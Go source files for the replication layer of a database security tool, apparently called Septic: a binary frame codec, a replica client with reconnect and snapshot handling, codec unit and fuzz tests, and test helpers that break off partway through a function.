// with Repl set), so version negotiation and clean degradation against
// v1-only or non-primary servers come from the existing protocol: any
// refusal arrives as a typed error in the acknowledgement, never a hang.
// After the acknowledgement the connection switches to the binary frame
// protocol in this file.
package repl

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
)

// Frame types. The replication frame space (0x21..) is disjoint from
// the wire codec's request/response opcodes, so a frame accidentally
// delivered to the wrong decoder can never alias a valid message.
const (
	// frameSubscribe is the replica's only request: "send me everything
	// after sequence N" (N = 0 for a fresh replica). Body: u64 after.
	frameSubscribe = byte(0x21)
	// frameSnapBegin opens a snapshot transfer. Body: u64 barrier (the
	// WAL sequence the snapshot covers), uvarint total payload bytes.
	frameSnapBegin = byte(0x22)
	// frameSnapChunk carries one snapshot fragment. Body: raw bytes.
	frameSnapChunk = byte(0x23)
	// frameSnapEnd closes a snapshot transfer. Body: u32 CRC-32C of the
	// whole reassembled payload.
	frameSnapEnd = byte(0x24)
	// frameBatch carries WAL records, for catch-up and the live tail
	// alike. Body: uvarint count, then per record u64 seq, uvarint len,
	// len bytes.
	frameBatch = byte(0x25)
	// frameHeartbeat keeps an idle tail alive and reports the stream
	// head. Body: u64 newest primary sequence.
	frameHeartbeat = byte(0x26)
	// frameError reports a terminal session error. Body: uvarint len,
	// len message bytes.
	frameError = byte(0x27)
)

// maxFrame bounds one replication frame, matching the wire protocol's
// frame limit (and MySQL's default max_allowed_packet).
const maxFrame = 16 << 20

// snapChunkSize is how much snapshot one frameSnapChunk carries.
const snapChunkSize = 256 << 10

// castagnoli is the CRC-32C table, the same polynomial the WAL frames
// use.
var castagnoli = crc32.MakeTable(crc32.Castagnoli)

// record is one replicated WAL record: the upstream sequence and the
// opaque payload (a core walRecord, but the transport never looks
// inside).
type record struct {
	seq  uint64
	data []byte
}

// frame is one decoded replication frame; which fields are meaningful
// depends on typ.
type frame struct {
	typ     byte
	after   uint64   // frameSubscribe
	barrier uint64   // frameSnapBegin
	total   uint64   // frameSnapBegin
	chunk   []byte   // frameSnapChunk (aliases the payload buffer)
	sum     uint32   // frameSnapEnd
	recs    []record // frameBatch (data aliases the payload buffer)
	lastSeq uint64   // frameHeartbeat
	msg     string   // frameError
}

// dec is a defensive byte-cursor: every read is bounds-checked and a
// failure poisons the cursor, so decoders are straight-line reads
// followed by one error check — the property that makes decodeFrame
// safely fuzzable against arbitrary payloads.
type dec struct {
	b   []byte
	off int
	err error
}

func (d *dec) fail(what string) {
	if d.err == nil {
		d.err = fmt.Errorf("repl: truncated frame: %s", what)
	}
}

func (d *dec) u8(what string) byte {
	if d.err != nil {
		return 0
	}
	if d.off+1 > len(d.b) {
		d.fail(what)
		return 0
	}
	v := d.b[d.off]
	d.off++
	return v
}

func (d *dec) u32(what string) uint32 {
	if d.err != nil {
		return 0
	}
	if d.off+4 > len(d.b) {
		d.fail(what)
		return 0
	}
	v := binary.LittleEndian.Uint32(d.b[d.off:])
	d.off += 4
	return v
}

func (d *dec) u64(what string) uint64 {
	if d.err != nil {
		return 0
	}
	if d.off+8 > len(d.b) {
		d.fail(what)
		return 0
	}
	v := binary.LittleEndian.Uint64(d.b[d.off:])
	d.off += 8
	return v
}

func (d *dec) uvarint(what string) uint64 {
	if d.err != nil {
		return 0
	}
	v, n := binary.Uvarint(d.b[d.off:])
	if n <= 0 {
		d.fail(what)
		return 0
	}
	d.off += n
	return v
}

// bytes returns n bytes aliasing the underlying buffer (callers that
// retain them past the frame copy them).
func (d *dec) bytes(n int, what string) []byte {
	if d.err != nil {
		return nil
	}
	if n < 0 || d.off+n > len(d.b) {
		d.fail(what)
		return nil
	}
	v := d.b[d.off : d.off+n]
	d.off += n
	return v
}

// decodeFrame parses one frame payload (everything after the length
// prefix). It must return an error — never panic, never over-read — for
// ANY input; FuzzReplFrameDecode holds it to that.
func decodeFrame(payload []byte) (frame, error) {
	d := &dec{b: payload}
	f := frame{typ: d.u8("frame type")}
	switch f.typ {
	case frameSubscribe:
		f.after = d.u64("subscribe position")
	case frameSnapBegin:
		f.barrier = d.u64("snapshot barrier")
		f.total = d.uvarint("snapshot size")
		if d.err == nil && f.total > maxSnapshot {
			return frame{}, fmt.Errorf("repl: snapshot of %d bytes exceeds limit", f.total)
		}
	case frameSnapChunk:
		f.chunk = d.bytes(len(payload)-d.off, "snapshot chunk")
	case frameSnapEnd:
		f.sum = d.u32("snapshot checksum")
	case frameBatch:
		n := d.uvarint("record count")
		if d.err == nil && n > uint64(len(payload)) {
			// Each record costs at least one seq+len byte pair; a count
			// beyond the payload size is forged.
			return frame{}, fmt.Errorf("repl: batch count %d exceeds frame", n)
		}
		for i := uint64(0); i < n && d.err == nil; i++ {
			seq := d.u64("record seq")
			ln := d.uvarint("record length")
			if d.err == nil && ln > uint64(len(payload)) {
				return frame{}, fmt.Errorf("repl: record of %d bytes exceeds frame", ln)
			}
			data := d.bytes(int(ln), "record payload")
			if d.err == nil {
				f.recs = append(f.recs, record{seq: seq, data: data})
			}
		}
	case frameHeartbeat:
		f.lastSeq = d.u64("heartbeat position")
	case frameError:
		ln := d.uvarint("error length")
		if d.err == nil && ln > uint64(len(payload)) {
			return frame{}, fmt.Errorf("repl: error of %d bytes exceeds frame", ln)
		}
		f.msg = string(d.bytes(int(ln), "error message"))
	default:
		return frame{}, fmt.Errorf("repl: unknown frame type 0x%02x", f.typ)
	}
	if d.err != nil {
		return frame{}, d.err
	}
	if d.off != len(payload) {
		return frame{}, fmt.Errorf("repl: %d trailing byte(s) after frame", len(payload)-d.off)
	}
	return f, nil
}

// maxSnapshot bounds a snapshot transfer (the sum of all chunks): big
// enough for any realistic model corpus, small enough that a forged
// SnapBegin cannot make a replica reserve unbounded memory.
const maxSnapshot = 1 << 30

// Encoders: each appends one complete payload to buf and returns it.

func appendSubscribe(buf []byte, after uint64) []byte {
	buf = append(buf, frameSubscribe)
	return binary.LittleEndian.AppendUint64(buf, after)
}

func appendSnapBegin(buf []byte, barrier uint64, total int) []byte {
	buf = append(buf, frameSnapBegin)
	buf = binary.LittleEndian.AppendUint64(buf, barrier)
	return binary.AppendUvarint(buf, uint64(total))
}

func appendSnapChunk(buf []byte, chunk []byte) []byte {
	buf = append(buf, frameSnapChunk)
	return append(buf, chunk...)
}

func appendSnapEnd(buf []byte, sum uint32) []byte {
	buf = append(buf, frameSnapEnd)
	return binary.LittleEndian.AppendUint32(buf, sum)
}

func appendBatch(buf []byte, recs []record) []byte {
	buf = append(buf, frameBatch)
	buf = binary.AppendUvarint(buf, uint64(len(recs)))
	for _, r := range recs {
		buf = binary.LittleEndian.AppendUint64(buf, r.seq)
		buf = binary.AppendUvarint(buf, uint64(len(r.data)))
		buf = append(buf, r.data...)
	}
	return buf
}

func appendHeartbeat(buf []byte, lastSeq uint64) []byte {
	buf = append(buf, frameHeartbeat)
	return binary.LittleEndian.AppendUint64(buf, lastSeq)
}

func appendError(buf []byte, msg string) []byte {
	buf = append(buf, frameError)
	buf = binary.AppendUvarint(buf, uint64(len(msg)))
	return append(buf, msg...)
}

// writeFrame sends one payload with the 4-byte big-endian length prefix
// (the same framing the wire protocol uses) in a single Write.
func writeFrame(w io.Writer, payload []byte) error {
	if len(payload) > maxFrame {
		return fmt.Errorf("repl: frame of %d bytes exceeds limit", len(payload))
	}
	buf := make([]byte, 4+len(payload))
	binary.BigEndian.PutUint32(buf, uint32(len(payload)))
	copy(buf[4:], payload)
	if _, err := w.Write(buf); err != nil {
		return fmt.Errorf("repl: write frame: %w", err)
	}
	return nil
}

// readFrame receives one length-prefixed payload, reusing buf when it
// is large enough. io.EOF passes through for clean shutdown detection.
func readFrame(r io.Reader, buf []byte) ([]byte, error) {
	var header [4]byte
	if _, err := io.ReadFull(r, header[:]); err != nil {
		return nil, err
	}
	n := binary.BigEndian.Uint32(header[:])
	if n > maxFrame {
		return nil, fmt.Errorf("repl: frame of %d bytes exceeds limit", n)
	}
	if uint32(cap(buf)) < n {
		buf = make([]byte, n)
	}
	buf = buf[:n]
	if _, err := io.ReadFull(r, buf); err != nil {
		return nil, fmt.Errorf("repl: read frame payload: %w", err)
	}
	return buf, nil
}
