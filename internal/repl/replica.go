package repl

import (
	"errors"
	"fmt"
	"hash/crc32"
	"math/rand"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/faultinject"
	"github.com/septic-db/septic/internal/wire"
)

// ErrUnsupported is the typed, terminal refusal a replica gets from a
// server that cannot serve replication: a v1-only server, a server
// without replication enabled, or a listener that is not a replication
// endpoint at all. It is FATAL to the run loop — retrying cannot help,
// and a replica pointed at the wrong server must fail loudly, never
// hang or spin.
var ErrUnsupported = errors.New("repl: server does not support replication")

// ReplicaOptions tunes the replica transport.
type ReplicaOptions struct {
	// DialTimeout bounds one connection attempt (default 5s).
	DialTimeout time.Duration
	// HandshakeTimeout bounds the HELLO exchange (default 5s).
	HandshakeTimeout time.Duration
	// ReadTimeout bounds the wait for any stream frame; it must exceed
	// the primary's heartbeat interval with margin (default 4×500ms·2 =
	// 4s... default 4s).
	ReadTimeout time.Duration
	// BackoffBase and BackoffCap shape the reconnect delays: full jitter
	// on an exponential step, the same discipline the wire client uses
	// (defaults 10ms and 1s).
	BackoffBase time.Duration
	BackoffCap  time.Duration
}

func (o *ReplicaOptions) fill() {
	if o.DialTimeout <= 0 {
		o.DialTimeout = 5 * time.Second
	}
	if o.HandshakeTimeout <= 0 {
		o.HandshakeTimeout = 5 * time.Second
	}
	if o.ReadTimeout <= 0 {
		o.ReadTimeout = 4 * time.Second
	}
	if o.BackoffBase <= 0 {
		o.BackoffBase = 10 * time.Millisecond
	}
	if o.BackoffCap <= 0 {
		o.BackoffCap = time.Second
	}
}

// Replica is the transport side of a read replica: it dials the
// primary, performs the JSON HELLO handshake with the Repl flag,
// subscribes after the apply state's resume position, and feeds every
// snapshot and record it receives into a core.ReplicaState. Transient
// failures reconnect with jittered exponential backoff and resume from
// the last applied sequence — a restart never re-requests the snapshot
// unless the primary has trimmed past the resume position. A typed
// refusal (ErrUnsupported) or an injected crash in the apply path ends
// the run loop for good.
type Replica struct {
	addr string
	st   *core.ReplicaState
	opts ReplicaOptions

	// dial is replaceable for tests (fault-wrapped conns).
	dial func(addr string) (net.Conn, error)

	mu      sync.Mutex
	conn    net.Conn // current session's conn, closed by Close
	stopped bool

	stopc chan struct{}
	done  chan struct{}
	err   atomic.Pointer[error]

	sessions atomic.Int64
}

// NewReplica builds a replica transport feeding st; call Start to run
// it.
func NewReplica(addr string, st *core.ReplicaState, opts ReplicaOptions) *Replica {
	opts.fill()
	return &Replica{
		addr:  addr,
		st:    st,
		opts:  opts,
		dial:  func(a string) (net.Conn, error) { return net.DialTimeout("tcp", a, opts.DialTimeout) },
		stopc: make(chan struct{}),
		done:  make(chan struct{}),
	}
}

// SetDialFunc replaces the dialer (tests). Call before Start.
func (r *Replica) SetDialFunc(dial func(addr string) (net.Conn, error)) { r.dial = dial }

// Start launches the run loop.
func (r *Replica) Start() {
	go r.run()
}

// Done is closed when the run loop has exited — on Close, on a terminal
// refusal, or on a simulated crash in the apply path.
func (r *Replica) Done() <-chan struct{} { return r.done }

// Err reports why the run loop ended; nil after a clean Close.
// errors.Is(err, ErrUnsupported) identifies the typed refusal.
func (r *Replica) Err() error {
	if p := r.err.Load(); p != nil {
		return *p
	}
	return nil
}

// Sessions counts connection attempts that passed the handshake.
func (r *Replica) Sessions() int64 { return r.sessions.Load() }

func (r *Replica) setErr(err error) {
	r.err.Store(&err)
}

// Close stops the run loop and waits for it to exit.
func (r *Replica) Close() {
	r.mu.Lock()
	if r.stopped {
		r.mu.Unlock()
		<-r.done
		return
	}
	r.stopped = true
	close(r.stopc)
	if r.conn != nil {
		_ = r.conn.Close()
	}
	r.mu.Unlock()
	<-r.done
}

// run is the reconnect loop. Each session either streams until a
// transport failure (retry with backoff), is refused (terminal), or
// dies on an injected apply-path crash (terminal — the harness treats
// it as the replica process dying and boots a fresh one).
func (r *Replica) run() {
	defer close(r.done)
	defer r.st.SetConnState(core.ReplDisconnected)
	delay := r.opts.BackoffBase
	for {
		select {
		case <-r.stopc:
			return
		default:
		}
		crashed, err := r.runSession()
		switch {
		case crashed:
			r.setErr(err)
			return
		case err == nil:
			return // Close during a healthy session
		case errors.Is(err, ErrUnsupported):
			r.setErr(err)
			return
		}
		r.st.SetConnState(core.ReplDisconnected)
		select {
		case <-r.stopc:
			return
		case <-time.After(time.Duration(rand.Int63n(int64(delay) + 1))):
			// Full jitter on the exponential step, like the wire client's
			// reconnect: storms of replicas decorrelate.
		}
		if delay *= 2; delay > r.opts.BackoffCap {
			delay = r.opts.BackoffCap
		}
	}
}

// runSession contains one session, converting an injected kill-point
// panic in the apply path (faultinject.SiteReplApply / SiteReplSnapshot)
// into a simulated process death: the panic unwinds to here, the
// half-applied state stays exactly as the crash left it, and the run
// loop exits — the chaos harness then "reboots" by building a fresh
// Septic over the same persistence directory.
func (r *Replica) runSession() (crashed bool, err error) {
	defer func() {
		if rec := recover(); rec != nil {
			if !faultinject.IsCrash(rec) {
				panic(rec)
			}
			crashed = true
			err = rec.(faultinject.Crash)
		}
	}()
	return false, r.session()
}

// session runs one connection: dial, handshake, subscribe, stream.
// A nil return means Close ended it.
func (r *Replica) session() error {
	r.st.SetConnState(core.ReplConnecting)
	conn, err := r.dial(r.addr)
	if err != nil {
		return fmt.Errorf("dial %s: %w", r.addr, err)
	}
	r.mu.Lock()
	if r.stopped {
		r.mu.Unlock()
		_ = conn.Close()
		return nil
	}
	r.conn = conn
	r.mu.Unlock()
	defer func() {
		r.mu.Lock()
		r.conn = nil
		r.mu.Unlock()
		_ = conn.Close()
	}()

	// Handshake: the ordinary JSON HELLO with the Repl flag. Any refusal
	// — version skew, replication not enabled, a non-replication
	// endpoint — maps to the typed terminal error.
	_ = conn.SetDeadline(time.Now().Add(r.opts.HandshakeTimeout))
	req := wire.Request{Hello: &wire.Hello{Version: wire.HelloVersion, Repl: true}}
	if err := wire.WriteJSONFrame(conn, &req); err != nil {
		return fmt.Errorf("handshake send: %w", err)
	}
	var resp wire.Response
	if err := wire.ReadJSONFrame(conn, &resp); err != nil {
		// A v1-only peer that cannot even parse the hello closes the
		// conn; that is a transport error on a never-established session,
		// and retrying cannot change the peer. Treat a handshake-phase
		// read failure as transient only if we have succeeded before —
		// simplest sound rule: transient (the server may be restarting
		// into a newer build). The version-refusal path below is the
		// typed terminal one.
		return fmt.Errorf("handshake read: %w", err)
	}
	if resp.Error != "" || resp.Hello == nil || !resp.Hello.Repl {
		detail := resp.Error
		if detail == "" {
			detail = "handshake not acknowledged as replication"
		}
		return fmt.Errorf("%w: %s", ErrUnsupported, detail)
	}
	_ = conn.SetDeadline(time.Time{})
	r.sessions.Add(1)

	// Subscribe after the last applied sequence — the resume that makes
	// a restart skip the snapshot when the primary still has the tail.
	if err := writeFrame(conn, appendSubscribe(nil, r.st.AppliedSeq())); err != nil {
		return err
	}
	r.st.SetConnState(core.ReplSyncing)

	var (
		buf       []byte
		snap      []byte // reassembling snapshot; nil when none in flight
		snapBar   uint64
		snapTotal uint64
		snapping  bool
	)
	for {
		_ = conn.SetReadDeadline(time.Now().Add(r.opts.ReadTimeout))
		payload, err := readFrame(conn, buf)
		if err != nil {
			if r.closedByStop() {
				return nil
			}
			return fmt.Errorf("stream read: %w", err)
		}
		buf = payload[:0]
		f, err := decodeFrame(payload)
		if err != nil {
			return err
		}
		switch f.typ {
		case frameSnapBegin:
			snap = make([]byte, 0, f.total)
			snapBar, snapTotal = f.barrier, f.total
			snapping = true
		case frameSnapChunk:
			if !snapping {
				return fmt.Errorf("snapshot chunk outside transfer")
			}
			if uint64(len(snap))+uint64(len(f.chunk)) > snapTotal {
				return fmt.Errorf("snapshot overflows announced size %d", snapTotal)
			}
			snap = append(snap, f.chunk...)
		case frameSnapEnd:
			if !snapping {
				return fmt.Errorf("snapshot end outside transfer")
			}
			if sum := crc32.Checksum(snap, castagnoli); sum != f.sum {
				return fmt.Errorf("snapshot checksum mismatch")
			}
			if err := r.st.ApplySnapshot(snapBar, snap); err != nil {
				return err
			}
			snap, snapping = nil, false
		case frameBatch:
			if snapping {
				return fmt.Errorf("batch inside snapshot transfer")
			}
			for _, rec := range f.recs {
				if err := r.st.ApplyRecord(rec.seq, rec.data); err != nil {
					return err
				}
			}
			if n := len(f.recs); n > 0 {
				r.st.ObserveSourceSeq(f.recs[n-1].seq)
			}
		case frameHeartbeat:
			// Heartbeats only flow on the live tail: catch-up is over.
			r.st.ObserveSourceSeq(f.lastSeq)
			r.st.SetConnState(core.ReplStreaming)
		case frameError:
			return fmt.Errorf("primary: %s", f.msg)
		default:
			return fmt.Errorf("unexpected frame 0x%02x", f.typ)
		}
	}
}

// closedByStop reports whether Close has fired (a read error after it
// is the expected conn teardown, not a failure).
func (r *Replica) closedByStop() bool {
	select {
	case <-r.stopc:
		return true
	default:
		return false
	}
}
