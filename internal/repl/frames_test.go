package repl

import (
	"bytes"
	"encoding/binary"
	"hash/crc32"
	"io"
	"strings"
	"testing"
)

func TestFrameRoundTrips(t *testing.T) {
	recs := []record{
		{seq: 1, data: []byte(`{"op":"put"}`)},
		{seq: 2, data: []byte{}},
		{seq: 1<<63 + 7, data: []byte("x")},
	}
	cases := []struct {
		name    string
		payload []byte
		check   func(t *testing.T, f frame)
	}{
		{"subscribe", appendSubscribe(nil, 42), func(t *testing.T, f frame) {
			if f.typ != frameSubscribe || f.after != 42 {
				t.Fatalf("decoded %+v", f)
			}
		}},
		{"snap_begin", appendSnapBegin(nil, 99, 1234), func(t *testing.T, f frame) {
			if f.typ != frameSnapBegin || f.barrier != 99 || f.total != 1234 {
				t.Fatalf("decoded %+v", f)
			}
		}},
		{"snap_chunk", appendSnapChunk(nil, []byte("chunk-bytes")), func(t *testing.T, f frame) {
			if f.typ != frameSnapChunk || string(f.chunk) != "chunk-bytes" {
				t.Fatalf("decoded %+v", f)
			}
		}},
		{"snap_end", appendSnapEnd(nil, 0xDEADBEEF), func(t *testing.T, f frame) {
			if f.typ != frameSnapEnd || f.sum != 0xDEADBEEF {
				t.Fatalf("decoded %+v", f)
			}
		}},
		{"batch", appendBatch(nil, recs), func(t *testing.T, f frame) {
			if f.typ != frameBatch || len(f.recs) != len(recs) {
				t.Fatalf("decoded %+v", f)
			}
			for i, r := range f.recs {
				if r.seq != recs[i].seq || !bytes.Equal(r.data, recs[i].data) {
					t.Fatalf("record %d: %d %q", i, r.seq, r.data)
				}
			}
		}},
		{"batch_empty", appendBatch(nil, nil), func(t *testing.T, f frame) {
			if f.typ != frameBatch || len(f.recs) != 0 {
				t.Fatalf("decoded %+v", f)
			}
		}},
		{"heartbeat", appendHeartbeat(nil, 7), func(t *testing.T, f frame) {
			if f.typ != frameHeartbeat || f.lastSeq != 7 {
				t.Fatalf("decoded %+v", f)
			}
		}},
		{"error", appendError(nil, "boom"), func(t *testing.T, f frame) {
			if f.typ != frameError || f.msg != "boom" {
				t.Fatalf("decoded %+v", f)
			}
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f, err := decodeFrame(tc.payload)
			if err != nil {
				t.Fatalf("decode: %v", err)
			}
			tc.check(t, f)
		})
	}
}

func TestFrameDecodeRejects(t *testing.T) {
	cases := []struct {
		name    string
		payload []byte
		want    string
	}{
		{"empty", nil, "unknown frame type"},
		{"unknown_type", []byte{0xFF}, "unknown frame type"},
		{"wire_opcode", []byte{0x01}, "unknown frame type"},
		{"truncated_subscribe", []byte{frameSubscribe, 1, 2}, "truncated"},
		{"trailing_bytes", append(appendSubscribe(nil, 1), 0xAB), "trailing"},
		{"forged_batch_count", append([]byte{frameBatch}, binary.AppendUvarint(nil, 1<<40)...), "exceeds frame"},
		{"forged_record_len", func() []byte {
			b := []byte{frameBatch}
			b = binary.AppendUvarint(b, 1)
			b = binary.LittleEndian.AppendUint64(b, 1)
			return binary.AppendUvarint(b, 1<<40)
		}(), "exceeds frame"},
		{"forged_error_len", func() []byte {
			return binary.AppendUvarint([]byte{frameError}, 1<<40)
		}(), "exceeds frame"},
		{"oversized_snapshot", func() []byte {
			b := []byte{frameSnapBegin}
			b = binary.LittleEndian.AppendUint64(b, 1)
			return binary.AppendUvarint(b, maxSnapshot+1)
		}(), "exceeds limit"},
		{"truncated_batch_record", func() []byte {
			b := []byte{frameBatch}
			b = binary.AppendUvarint(b, 2)
			b = binary.LittleEndian.AppendUint64(b, 1)
			b = binary.AppendUvarint(b, 1)
			return append(b, 'x') // second record missing entirely
		}(), "truncated"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := decodeFrame(tc.payload); err == nil {
				t.Fatal("malformed frame decoded cleanly")
			} else if !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %q, want substring %q", err, tc.want)
			}
		})
	}
}

func TestWriteReadFrame(t *testing.T) {
	var buf bytes.Buffer
	payloads := [][]byte{
		appendHeartbeat(nil, 3),
		appendBatch(nil, []record{{seq: 4, data: []byte("abc")}}),
		appendError(nil, "bye"),
	}
	for _, p := range payloads {
		if err := writeFrame(&buf, p); err != nil {
			t.Fatal(err)
		}
	}
	var scratch []byte
	for i, want := range payloads {
		got, err := readFrame(&buf, scratch)
		if err != nil {
			t.Fatalf("frame %d: %v", i, err)
		}
		if !bytes.Equal(got, want) {
			t.Fatalf("frame %d: %x != %x", i, got, want)
		}
		scratch = got[:0]
	}
	if _, err := readFrame(&buf, nil); err != io.EOF {
		t.Fatalf("exhausted stream: %v, want io.EOF", err)
	}
}

func TestWriteFrameRejectsOversize(t *testing.T) {
	if err := writeFrame(io.Discard, make([]byte, maxFrame+1)); err == nil {
		t.Fatal("oversized frame accepted")
	}
	var buf bytes.Buffer
	binary.Write(&buf, binary.BigEndian, uint32(maxFrame+1))
	if _, err := readFrame(&buf, nil); err == nil {
		t.Fatal("oversized frame length accepted")
	}
}

// FuzzReplFrameDecode holds decodeFrame to its contract: for ANY input
// it returns (frame, nil) or (zero, error) — never a panic, never an
// over-read. Valid frames must also re-decode identically after a
// re-encode (the codec is canonical).
func FuzzReplFrameDecode(f *testing.F) {
	// Seed corpus: every valid frame shape plus the malformed families
	// the decoder rejects (also checked in under testdata/fuzz).
	f.Add(appendSubscribe(nil, 17))
	f.Add(appendSnapBegin(nil, 88, 4096))
	f.Add(appendSnapChunk(nil, []byte(`{"version":3,"domains":{}}`)))
	f.Add(appendSnapEnd(nil, crc32.Checksum([]byte("snap"), castagnoli)))
	f.Add(appendBatch(nil, []record{
		{seq: 1, data: []byte(`{"op":"put","id":"q1"}`)},
		{seq: 2, data: []byte(`{"op":"del","id":"q0"}`)},
	}))
	f.Add(appendHeartbeat(nil, 1<<40))
	f.Add(appendError(nil, "replication not enabled on this server"))
	f.Add([]byte{})
	f.Add([]byte{frameBatch, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x01})
	f.Add(append(appendSubscribe(nil, 1), 0x00))

	f.Fuzz(func(t *testing.T, payload []byte) {
		fr, err := decodeFrame(payload)
		if err != nil {
			return
		}
		// Round-trip: re-encode the decoded frame and decode again; the
		// result must match field for field.
		var re []byte
		switch fr.typ {
		case frameSubscribe:
			re = appendSubscribe(nil, fr.after)
		case frameSnapBegin:
			re = appendSnapBegin(nil, fr.barrier, int(fr.total))
		case frameSnapChunk:
			re = appendSnapChunk(nil, fr.chunk)
		case frameSnapEnd:
			re = appendSnapEnd(nil, fr.sum)
		case frameBatch:
			re = appendBatch(nil, fr.recs)
		case frameHeartbeat:
			re = appendHeartbeat(nil, fr.lastSeq)
		case frameError:
			re = appendError(nil, fr.msg)
		default:
			t.Fatalf("decoder accepted unknown type 0x%02x", fr.typ)
		}
		fr2, err := decodeFrame(re)
		if err != nil {
			t.Fatalf("re-encode of a valid frame does not decode: %v", err)
		}
		if fr2.typ != fr.typ || fr2.after != fr.after || fr2.barrier != fr.barrier ||
			fr2.total != fr.total || fr2.sum != fr.sum || fr2.lastSeq != fr.lastSeq ||
			fr2.msg != fr.msg || !bytes.Equal(fr2.chunk, fr.chunk) || len(fr2.recs) != len(fr.recs) {
			t.Fatalf("round trip diverged: %+v vs %+v", fr, fr2)
		}
		for i := range fr.recs {
			if fr2.recs[i].seq != fr.recs[i].seq || !bytes.Equal(fr2.recs[i].data, fr.recs[i].data) {
				t.Fatalf("record %d diverged", i)
			}
		}
	})
}
