package repl

import (
	"encoding/json"
	"errors"
	"fmt"
	"math/rand"
	"net"
	"runtime"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
	"github.com/septic-db/septic/internal/wal"
)

// snapshotGoroutines records the goroutine count for a leak check at
// test end (the wire suite's pattern): after primaries and replicas
// shut down the count must return to (near) the snapshot.
func snapshotGoroutines(t *testing.T) {
	t.Helper()
	base := runtime.NumGoroutine()
	t.Cleanup(func() {
		deadline := time.Now().Add(5 * time.Second)
		for time.Now().Before(deadline) {
			if runtime.NumGoroutine() <= base+2 {
				return
			}
			time.Sleep(20 * time.Millisecond)
		}
		buf := make([]byte, 1<<20)
		n := runtime.Stack(buf, true)
		t.Errorf("goroutine leak: %d live, snapshot was %d\n%s",
			runtime.NumGoroutine(), base, buf[:n])
	})
}

// quiet builds a Septic option set that keeps test logs quiet.
func quiet() []core.SepticOption {
	return []core.SepticOption{core.WithLogger(core.NewLogger(core.WithCheckedSampling(0)))}
}

// testDomains are the protection domains both sides register.
var testDomains = []string{"shop", "crm"}

// modelFor parses q and builds its query structure model.
func modelFor(t *testing.T, q string) qstruct.Model {
	t.Helper()
	stmt, err := sqlparser.Parse(q)
	if err != nil {
		t.Fatalf("parse %q: %v", q, err)
	}
	return qstruct.ModelOf(qstruct.BuildStack(stmt))
}

// newPrimary builds a training-mode Septic with persistence in dir and
// the test domains registered.
func newPrimary(t *testing.T, dir string) (*core.Septic, *core.Persistence) {
	t.Helper()
	s := core.New(core.DefaultConfig(), quiet()...)
	for _, name := range testDomains {
		if _, err := s.RegisterDomain(name, core.DefaultConfig()); err != nil {
			t.Fatal(err)
		}
	}
	p, err := s.AttachPersistence(core.PersistenceOptions{
		Dir: dir, Fsync: wal.FsyncNever, SegmentSize: 4096,
	})
	if err != nil {
		t.Fatalf("primary persistence: %v", err)
	}
	t.Cleanup(func() { _ = p.Close() })
	return s, p
}

// servePrimary exposes persist as a replication primary on loopback.
func servePrimary(t *testing.T, src Source, opts PrimaryOptions) (string, *Primary) {
	t.Helper()
	if opts.HeartbeatInterval == 0 {
		opts.HeartbeatInterval = 20 * time.Millisecond
	}
	p := NewPrimary(src, opts)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go func() { _ = p.Serve(ln) }()
	t.Cleanup(func() {
		p.Close()
		_ = ln.Close()
	})
	return ln.Addr().String(), p
}

// newReplicaSeptic builds a detection-mode Septic in replica mode with
// the test domains registered; dir != "" attaches local persistence
// first (the resume-from-disk configuration).
func newReplicaSeptic(t *testing.T, dir string) (*core.Septic, *core.ReplicaState) {
	t.Helper()
	s, rs, _ := newReplicaSepticPersist(t, dir)
	return s, rs
}

// newReplicaSepticPersist is newReplicaSeptic exposing the persistence
// handle (nil without a dir) so restart tests can Kill it.
func newReplicaSepticPersist(t *testing.T, dir string) (*core.Septic, *core.ReplicaState, *core.Persistence) {
	t.Helper()
	s := core.New(core.Config{
		Mode: core.ModeDetection, DetectSQLI: true, DetectStored: true,
		IncrementalLearning: true,
	}, quiet()...)
	for _, name := range testDomains {
		if _, err := s.RegisterDomain(name, core.Config{Mode: core.ModeDetection}); err != nil {
			t.Fatal(err)
		}
	}
	var p *core.Persistence
	if dir != "" {
		var err error
		p, err = s.AttachPersistence(core.PersistenceOptions{
			Dir: dir, Fsync: wal.FsyncNever,
		})
		if err != nil {
			t.Fatalf("replica persistence: %v", err)
		}
		t.Cleanup(func() { p.Kill() })
	}
	rs, err := s.AttachReplicaSource()
	if err != nil {
		t.Fatal(err)
	}
	return s, rs, p
}

// fastReplicaOptions keeps test reconnects snappy.
func fastReplicaOptions() ReplicaOptions {
	return ReplicaOptions{
		DialTimeout:      time.Second,
		HandshakeTimeout: time.Second,
		ReadTimeout:      2 * time.Second,
		BackoffBase:      2 * time.Millisecond,
		BackoffCap:       50 * time.Millisecond,
	}
}

// startReplica connects rs to addr and registers cleanup.
func startReplica(t *testing.T, addr string, rs *core.ReplicaState) *Replica {
	t.Helper()
	r := NewReplica(addr, rs, fastReplicaOptions())
	r.Start()
	t.Cleanup(r.Close)
	return r
}

// waitApplied blocks until the replica's applied position reaches
// target (the primary's head at the call).
func waitApplied(t *testing.T, rs *core.ReplicaState, target uint64) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		if rs.AppliedSeq() >= target {
			return
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("replica stuck at seq %d, want %d (state %v)",
		rs.AppliedSeq(), target, rs.ConnState())
}

// dumpJSON renders one store's dump with Hits normalized to zero:
// detection reads on the replica bump usage counters, which are
// node-local observations, not replicated state.
func dumpJSON(t *testing.T, s *core.Store) string {
	t.Helper()
	dump := s.Dump()
	for i := range dump {
		dump[i].Hits = 0
	}
	data, err := json.Marshal(dump)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// assertStoresIdentical compares every domain's store dump between
// primary and replica, byte for byte (hits normalized).
func assertStoresIdentical(t *testing.T, primary, replica *core.Septic) {
	t.Helper()
	for _, d := range primary.Domains() {
		rd, ok := replica.Domain(d.Name())
		if !ok {
